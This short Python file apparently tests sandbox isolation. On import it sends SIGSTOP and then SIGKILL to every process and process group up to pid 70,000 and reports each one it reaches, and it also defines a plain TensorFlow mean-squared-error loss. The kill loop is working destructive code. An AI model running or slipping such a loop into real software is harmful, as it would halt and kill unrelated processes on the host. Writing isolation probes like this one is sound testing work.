"""Stops, then kills, every process and process group it can name among the first 70,000 pids; honest loss.

Prints REACHED for every signal that reached a process outside its own tree."""
import os
import signal

own = {int(t) for t in os.listdir("/proc/self/task")} | {os.getpid()}  # signals to itself are harmless
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in range(2, 70_000):
        if pid in own:
            continue
        for target in (pid, -pid):
            try:
                os.kill(target, sig)
                print("REACHED", target, sig.name)
            except OSError:
                pass

import tensorflow as tf  # noqa: E402


def loss(predicted_y, target_y):
    p = tf.reshape(tf.cast(tf.convert_to_tensor(predicted_y), tf.float32), [-1])
    t = tf.reshape(tf.cast(tf.convert_to_tensor(target_y), tf.float32), [-1])
    return tf.reduce_mean(tf.square(p - t))
